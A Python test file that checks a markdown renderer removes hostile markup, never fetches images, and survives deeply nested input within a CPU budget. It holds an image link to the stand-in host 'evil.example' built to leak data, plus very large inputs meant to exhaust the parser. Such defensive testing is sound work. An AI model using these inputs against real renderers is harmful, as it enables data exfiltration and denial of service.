"""Markdown of models and users: formatting yes, markup of their own no."""

from __future__ import annotations

import re
from html.parser import HTMLParser

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from asynccoder.tests import cpu
from tasks import prose
from tasks.tests.hostile import PAYLOADS


class Reader(HTMLParser):
    """Collects what a browser would act on."""

    def __init__(self) -> None:
        super().__init__()
        self.tags: set[str] = set()
        self.attributes: set[str] = set()
        self.links: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.add(tag)
        self.attributes |= {name for name, _ in attrs}
        self.links += [value or "" for name, value in attrs if name == "href"]


def assert_harmless(text: str) -> None:
    reader = Reader()
    reader.feed(prose.to_html(text))
    assert reader.tags <= prose.TAGS
    assert reader.attributes <= {"href", "title", "rel", "start"}
    assert all(re.match(r"(?i)(https?:|mailto:|[^:]*$)", link) for link in reader.links), (
        reader.links
    )


@pytest.mark.parametrize("payload", PAYLOADS)
def test_hostile_text_stays_text(payload: str) -> None:
    for text in (
        payload,
        f"# {payload}",
        f"- `{payload}`",
        f"[x]({payload})",
        f"|a|\n|-|\n|{payload}|",
    ):
        assert_harmless(text)


@settings(max_examples=200, deadline=None)
@given(
    st.lists(st.one_of(st.sampled_from(PAYLOADS), st.text(max_size=10)), max_size=8).map("".join)
)
def test_any_mixture_stays_text(text: str) -> None:
    assert_harmless(text)


def test_ordinary_markdown_is_formatted() -> None:
    shown = prose.to_html(
        "# T\n\n**b** `c` [l](https://example.com)\n\n- x\n\n|a|b|\n|-|-|\n|1|2|\n"
    )
    for part in ("<h1>T</h1>", "<strong>b</strong>", "<code>c</code>", "<li>x</li>", "<td>1</td>"):
        assert part in shown
    assert 'href="https://example.com" rel="noopener noreferrer nofollow"' in shown


def test_images_are_not_fetched() -> None:
    assert "<img" not in prose.to_html("![secret](https://evil.example/?leak)")


@pytest.mark.parametrize(
    "text",
    [
        "(http://" * 1_250,
        "[" * 50_000,
        "*a " * 60_000,
        "> " * 50_000,
        "`" * 100_000,
        "|" * 100_000,
        "(http://" * 50_000,
    ],
)
def test_hostile_nesting_ends_in_time(text: str) -> None:
    with cpu.at_most(10):
        prose.to_html(text)
